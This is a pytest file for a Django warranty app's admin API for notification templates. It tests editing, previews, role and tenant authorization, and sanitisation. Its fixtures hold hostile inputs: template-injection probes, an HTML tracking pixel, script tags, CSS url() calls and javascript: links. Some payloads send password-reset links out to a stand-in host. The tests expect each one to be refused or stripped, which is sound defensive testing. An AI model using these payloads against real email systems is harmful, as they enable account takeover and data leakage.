"""Admin API of notification templates: list, edit with restricted placeholders, reset, preview; who may."""

import pytest
from django.core import mail

from tests.conftest import client_for
from warranty_api.models import NotificationKind, NotificationTemplate, Role
from warranty_api.notifications.services import (
    PLACEHOLDERS,
    SAMPLES,
    notification_render,
    notification_send,
    notify,
    placeholders_allowed,
)

BASE = "/api/northpeak/admin/notification-templates"
GOOD = {
    "subject": "Claim {{ claim_id }} at {{ brand_name }}",
    "text_body": "Hi {{ customer_name }}, we said no: {{ reason }}",
}


def _state():
    return sorted(NotificationTemplate.objects.values_list("tenant__slug", "kind", "subject", "text_body", "html_body"))


# ------------------------------------------------------------------------------------------- rendering defaults


@pytest.mark.parametrize("kind", list(PLACEHOLDERS))
def test_every_default_template_renders_whole_with_its_samples(tenant, kind):
    assert set(SAMPLES[kind]) == set(PLACEHOLDERS[kind]), "samples cover exactly the kind's placeholders"
    message = notification_render(tenant=tenant, kind=kind, context={"customer_name": "Ann", **SAMPLES[kind]})
    for part in (message.subject, message.text, message.html):
        assert "{{" not in part and "}}" not in part and "{%" not in part
    assert message.subject.strip()
    for part in (message.text, message.html):
        assert "Northpeak Outdoor" in part
        assert "care@northpeak.example" in part
    assert "<html" in message.html and "#0b5d3b" in message.html
    assert "<p>" not in message.text and "<p>" in message.html  # two parts: plain text, and HTML


# ------------------------------------------------------------------------------------------------- list / get


def test_list_shows_every_kind_with_placeholders_and_default_or_override(admin_client, tenant):
    NotificationTemplate.objects.create(tenant=tenant, kind="claim_denied", subject="S {{ claim_id }}", text_body="B")
    response = admin_client.get(BASE)
    assert response.status_code == 200
    rows = {row["kind"]: row for row in response.json()["data"]}
    assert set(rows) == set(NotificationKind.values)
    assert rows["claim_denied"]["customized"] is True and rows["claim_denied"]["subject"] == "S {{ claim_id }}"
    received = rows["claim_received"]
    assert received["customized"] is False and received["subject"] == "We received your claim {{ claim_reference }}"
    assert "{{ product_name }}" in received["text_body"]
    assert received["placeholders"] == list(placeholders_allowed("claim_received"))
    assert "brand_name" in received["placeholders"] and "serial_number" in received["placeholders"]
    assert response.json()["meta"]["has_more"] is False


def test_list_reads_a_constant_number_of_queries(admin_client, tenant, django_assert_max_num_queries):
    for kind in list(PLACEHOLDERS)[:6]:
        NotificationTemplate.objects.create(tenant=tenant, kind=kind, subject="S", text_body="B")
    with django_assert_max_num_queries(4):
        assert admin_client.get(BASE).status_code == 200


def test_unknown_kind_is_not_found(admin_client):
    assert admin_client.get(f"{BASE}/no_such_kind").json()["error"]["code"] == "not_found"
    assert admin_client.put(f"{BASE}/no_such_kind", GOOD, format="json").status_code == 404
    assert admin_client.post(f"{BASE}/no_such_kind/preview", {}, format="json").status_code == 404
    assert admin_client.delete(f"{BASE}/no_such_kind").status_code == 404


# ------------------------------------------------------------------------------------------------- put / delete


def test_put_saves_and_messages_use_it_then_delete_restores_the_default(admin_client, tenant):
    response = admin_client.put(f"{BASE}/claim_denied", {**GOOD, "html_body": "<p>No: {{ reason }}</p>"}, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["data"]["customized"] is True
    assert response.json()["data"]["html_body"] == "<p>No: {{ reason }}</p>"

    notification = notify(
        tenant=tenant, kind="claim_denied", to="a@example.com", context={"claim_id": "clm_1", "reason": "Worn <out>"}
    )
    notification_send(notification.id)
    sent = mail.outbox[-1]
    assert sent.subject == "Claim clm_1 at Northpeak Outdoor"
    assert sent.body.startswith("Hi customer, we said no: Worn <out>")
    assert "<p>No: Worn &lt;out&gt;</p>" in sent.alternatives[0][0]

    assert admin_client.put(f"{BASE}/claim_denied", GOOD, format="json").status_code == 200  # a second PUT replaces
    assert NotificationTemplate.objects.get(tenant=tenant, kind="claim_denied").html_body == ""

    assert admin_client.delete(f"{BASE}/claim_denied").status_code == 204
    assert not NotificationTemplate.objects.filter(tenant=tenant).exists()
    assert admin_client.delete(f"{BASE}/claim_denied").status_code == 204  # resetting twice is fine
    assert admin_client.get(f"{BASE}/claim_denied").json()["data"]["customized"] is False


@pytest.mark.parametrize(
    ("body", "field", "code"),
    [
        ({**GOOD, "text_body": "Your {{ password }} is {{ reason }}"}, "text_body", "unknown_placeholder"),
        ({**GOOD, "subject": "{{ warranty_end }}"}, "subject", "unknown_placeholder"),  # another kind's placeholder
        ({**GOOD, "html_body": "<p>{{ reason.__class__ }}</p>"}, "html_body", "unknown_placeholder"),
        ({**GOOD, "text_body": "{% debug %} {{ reason }}"}, "text_body", "template_syntax"),
        ({**GOOD, "text_body": "{# note #}"}, "text_body", "template_syntax"),
        ({**GOOD, "text_body": "Hello {{ customer_name"}, "text_body", "unclosed_placeholder"),
        ({**GOOD, "subject": "x" * 301}, "subject", "max_length"),
        ({**GOOD, "text_body": "x" * 20_001}, "text_body", "max_length"),
        ({**GOOD, "subject": "  "}, "subject", "required"),
        ({"subject": "Only a subject"}, "text_body", "required"),
        ({**GOOD, "is_default": True}, "is_default", "not_allowed"),
    ],
)
def test_put_refusals_change_nothing(admin_client, tenant, body, field, code):
    NotificationTemplate.objects.create(tenant=tenant, kind="claim_denied", subject="Before", text_body="Before")
    before = _state()
    response = admin_client.put(f"{BASE}/claim_denied", body, format="json")
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "validation_error"
    assert code in [item["code"] for item in error["fields"][field]]
    assert _state() == before


def test_unknown_placeholder_error_lists_the_allowed_ones(admin_client):
    response = admin_client.put(f"{BASE}/claim_denied", {**GOOD, "text_body": "{{ password }}"}, format="json")
    message = response.json()["error"]["fields"]["text_body"][0]["message"]
    assert "{{ password }}" in message
    for name in placeholders_allowed("claim_denied"):
        assert "{{ " + name + " }}" in message


# ------------------------------------------------------------------------------------------------------ preview


def test_preview_renders_samples_without_saving(admin_client, tenant):
    response = admin_client.post(f"{BASE}/claim_denied/preview", {}, format="json")
    assert response.status_code == 200, response.content
    data = response.json()["data"]
    assert set(data) == {"subject", "text", "html"}
    assert data["subject"] == f"About your claim {SAMPLES['claim_denied']['claim_reference']}"
    assert SAMPLES["claim_denied"]["reason"] in data["text"] and "John Smith" in data["text"]
    assert "Northpeak Outdoor" in data["html"]

    draft = {
        "subject": "Draft {{ claim_id }}",
        "html_body": "<b>{{ reason }}</b>",
        "context": {"reason": "Not <covered>", "customer_name": "Ann"},
    }
    data = admin_client.post(f"{BASE}/claim_denied/preview", draft, format="json").json()["data"]
    assert data["subject"] == f"Draft {SAMPLES['claim_denied']['claim_id']}"
    assert "<b>Not &lt;covered&gt;</b>" in data["html"]
    assert "Ann" in data["text"]  # the text body is still the default one
    assert not NotificationTemplate.objects.exists()


def test_preview_uses_the_saved_override_for_parts_left_out(admin_client, tenant):
    NotificationTemplate.objects.create(tenant=tenant, kind="claim_denied", subject="Saved {{ claim_id }}", text_body="T")
    data = admin_client.post(f"{BASE}/claim_denied/preview", {"text_body": "New {{ reason }}"}, format="json").json()["data"]
    assert data["subject"].startswith("Saved clm_")
    assert data["text"].startswith("New " + SAMPLES["claim_denied"]["reason"])


@pytest.mark.parametrize(
    ("body", "field", "code"),
    [
        ({"text_body": "{{ secret_key }}"}, "text_body", "unknown_placeholder"),
        ({"subject": "{% if x %}"}, "subject", "template_syntax"),
        ({"context": {"brand_name": "Evil Corp"}}, "context.brand_name", "unknown_placeholder"),
        ({"context": {"password": "x"}}, "context.password", "unknown_placeholder"),
        ({"context": {"reason": {"nested": 1}}}, "context.reason", "invalid"),
        ({"save": True}, "save", "not_allowed"),
    ],
)
def test_preview_refusals(admin_client, body, field, code):
    response = admin_client.post(f"{BASE}/claim_denied/preview", body, format="json")
    assert response.status_code == 400, response.content
    assert code in [item["code"] for item in response.json()["error"]["fields"][field]]
    assert not NotificationTemplate.objects.exists()


# ---------------------------------------------------------------------------------------------- authorization


ALLOWED = {"admin"}
NOT_ALLOWED = {
    "anonymous": 401,
    "customer": 403,
    "other_customer": 403,
    "other_tenant_customer": 401,
    "agent": 403,
    "other_tenant_admin": 401,
}


def _calls():
    return [
        ("get", BASE, None),
        ("get", f"{BASE}/claim_denied", None),
        ("put", f"{BASE}/claim_denied", {"subject": "Changed", "text_body": "Changed"}),
        ("delete", f"{BASE}/claim_denied", None),
        ("post", f"{BASE}/claim_denied/preview", {"subject": "Draft"}),
    ]


@pytest.mark.parametrize("who", ["anonymous", "customer", "other_customer", "other_tenant_customer", "agent", "admin",
                                 "other_tenant_admin"])
@pytest.mark.parametrize("call", range(5))
def test_authorization_table(actors, tenant, other_tenant, who, call):
    NotificationTemplate.objects.create(tenant=tenant, kind="claim_denied", subject="Ours", text_body="Ours")
    NotificationTemplate.objects.create(tenant=other_tenant, kind="claim_denied", subject="Theirs", text_body="Theirs")
    before = _state()
    method, url, body = _calls()[call]
    _user, client = actors[who]
    response = getattr(client, method)(url, body, format="json") if body is not None else getattr(client, method)(url)
    if who in ALLOWED:
        assert response.status_code in (200, 204), response.content
        if method == "get":
            assert "Theirs" not in response.content.decode()
    else:
        assert response.status_code == NOT_ALLOWED[who], (who, response.status_code)
        assert _state() == before
    # Another tenant's template is never touched, whoever calls.
    assert NotificationTemplate.objects.get(tenant=other_tenant).subject == "Theirs"


def test_other_tenants_admin_on_their_own_paths_sees_only_theirs(tenant, other_tenant, make_staff):
    NotificationTemplate.objects.create(tenant=tenant, kind="claim_denied", subject="Ours", text_body="Ours")
    foreign = client_for(make_staff(other_tenant, Role.ADMIN), other_tenant)
    rows = foreign.get("/api/southwind/admin/notification-templates").json()["data"]
    denied = next(row for row in rows if row["kind"] == "claim_denied")
    assert denied["customized"] is False and denied["subject"] != "Ours"
    assert foreign.delete("/api/southwind/admin/notification-templates/claim_denied").status_code == 204
    assert NotificationTemplate.objects.filter(tenant=tenant).exists()


# ------------------------------------------------------------------------------- no template can leak a link

ACCOUNT_KINDS = ["email_verification", "email_change_verification", "password_reset", "staff_invitation", "staff_membership_invitation"]
LEAKS = [
    ("html_body", '<p><img src="https://elsewhere.example/?l={{ link }}"></p>', "not_allowed"),
    ("html_body", '<p><a href="{{ link }}">Open</a></p>', "not_allowed"),  # no HTML of a brand's own at all
    ("text_body", "Open https://elsewhere.example/?l={{ link }}", "link_not_alone"),
    ("text_body", "Open {{ link }} or ask at www.elsewhere.example", "url_not_allowed"),
    ("text_body", "Open {{ link }} or write to mailto:help@elsewhere.example", "url_not_allowed"),
    ("subject", "Your link: {{ link }}", "not_allowed"),
]


@pytest.mark.parametrize("kind", ACCOUNT_KINDS)
@pytest.mark.parametrize(("field", "value", "code"), LEAKS)
def test_account_emails_refuse_wording_that_could_send_their_link_elsewhere(admin_client, kind, field, value, code):
    body = {"subject": "Hello from {{ brand_name }}", "text_body": "Open this:\n\n{{ link }}\n", field: value}
    before = _state()
    for path in (f"{BASE}/{kind}", f"{BASE}/{kind}/preview"):
        response = (admin_client.put if path.endswith(kind) else admin_client.post)(path, body, format="json")
        assert response.status_code == 400, response.content
        assert code in [e["code"] for e in response.json()["error"]["fields"][field]]
    assert _state() == before
    ok = {"subject": "Hello from {{ brand_name }}", "text_body": "Open this within the hour:\n\n{{ link }}\n"}
    assert admin_client.put(f"{BASE}/{kind}", ok, format="json").status_code == 200  # wording alone is the brand's


def test_a_leaking_account_template_stored_before_the_rules_is_not_used(api, tenant, make_customer, django_capture_on_commit_callbacks):
    """The second link of the takeover chain: a brand's password-reset email shipping its link to a third party."""
    make_customer(tenant, "ann@example.com")
    NotificationTemplate.objects.create(
        tenant=tenant, kind=NotificationKind.PASSWORD_RESET, subject="Reset {{ link }}",
        text_body="Go to https://elsewhere.example/?l={{ link }}",
        html_body='<img src="https://elsewhere.example/?l={{ link }}"><a href="https://elsewhere.example/?{{ link }}">x</a>',
    )
    with django_capture_on_commit_callbacks(execute=True):
        api.post("/api/northpeak/auth/forgot-password", {"email": "ann@example.com"}, format="json")
    (message,) = mail.outbox
    html_part = message.alternatives[0][0]
    for part in (message.subject, message.body, html_part):
        assert "elsewhere" not in part
    assert "<img" not in html_part and "reset-password?uid=" in message.body


UNSAFE_HTML = [
    '<p>Hi</p><img src="https://elsewhere.example/pixel.gif">',
    '<p style="background:url(https://elsewhere.example/x.png)">Hi</p>',
    '<p><a href="https://elsewhere.example/?c={{ claim_id }}">claim</a></p>',
    '<p><a href="javascript:alert(1)">claim</a></p>',
    '<p onclick="x()">Hi</p>',
    "<script>new Image().src='https://elsewhere.example'</script><p>Hi</p>",
    '<link rel="stylesheet" href="https://elsewhere.example/a.css"><p>Hi</p>',
    '<table background="https://elsewhere.example/bg.png"><tr><td>Hi</td></tr></table>',
    "<style>p{background:url(https://elsewhere.example/x)}</style><p>Hi</p>",
]


@pytest.mark.parametrize("html_body", UNSAFE_HTML)
def test_every_editable_html_goes_through_the_allow_list(admin_client, tenant, html_body):
    body = {"subject": "Claim {{ claim_id }}", "text_body": "We got it.", "html_body": html_body}
    before = _state()
    response = admin_client.put(f"{BASE}/claim_received", body, format="json")
    assert response.status_code == 400
    assert response.json()["error"]["fields"]["html_body"][0]["code"] == "unsafe_html"
    assert _state() == before
    # One stored before the allow-list existed is rebuilt from it when the message is rendered.
    NotificationTemplate.objects.create(tenant=tenant, kind="claim_received", **body)
    rendered = notification_render(tenant=tenant, kind="claim_received", context=SAMPLES["claim_received"]).html
    for forbidden in ("elsewhere", "<img", "<script", "<style", "<link", "onclick", "javascript:", "url("):
        assert forbidden not in rendered


def test_a_link_in_a_transfer_offer_cannot_be_wrapped_in_another_address(admin_client, tenant):
    for field, value in (
        ("text_body", "Accept at https://elsewhere.example/?t={{ link }}"),
        ("html_body", "<p>Accept at https://elsewhere.example/?t={{ link }}</p>"),
    ):
        body = {"subject": "A warranty for you", "text_body": "Accept:\n{{ link }}", field: value}
        response = admin_client.put(f"{BASE}/transfer_offered", body, format="json")
        assert response.json()["error"]["fields"][field][0]["code"] == "link_not_alone"


def test_allowed_html_keeps_its_formatting_and_escapes_placeholder_values(admin_client, tenant):
    html_body = (
        '<h2 style="color: {{ brand_primary_color }}">Claim {{ claim_id }}</h2>'
        '<p>Dear <strong>{{ customer_name }}</strong>, see <a href="https://northpeak.example/care">our care page</a>'
        ' or write to <a href="mailto:{{ support_email }}">us</a>.</p><br>'
    )
    response = admin_client.put(
        f"{BASE}/claim_received", {"subject": "S", "text_body": "T", "html_body": html_body}, format="json"
    )
    assert response.status_code == 200, response.content
    rendered = notification_render(
        tenant=tenant, kind="claim_received", context={**SAMPLES["claim_received"], "customer_name": "<b>Ann</b>"}
    ).html
    assert '<h2 style="color: #0b5d3b">' in rendered and '<a href="https://northpeak.example/care">' in rendered
    assert '<a href="mailto:care@northpeak.example">' in rendered
    assert "<strong>&lt;b&gt;Ann&lt;/b&gt;</strong>" in rendered


def test_a_stored_colour_that_is_not_hex_never_reaches_an_email_s_style(admin_client, tenant):
    # The configuration refuses such a colour; one stored before that rule (or by hand) falls back as the portal's.
    html_body = '<h2 style="color: {{ brand_primary_color }}">Claim {{ claim_id }}</h2>'
    response = admin_client.put(f"{BASE}/claim_received", {"subject": "S", "text_body": "T", "html_body": html_body},
                         format="json")
    assert response.status_code == 200, response.content
    tenant.branding = {**tenant.branding, "primary_color": "red;} body{background:url(https://x.example/)"}
    tenant.save(update_fields=["branding"])
    rendered = notification_render(tenant=tenant, kind="claim_received", context=SAMPLES["claim_received"]).html
    assert '<h2 style="color: #1f3a5f">' in rendered and "x.example" not in rendered
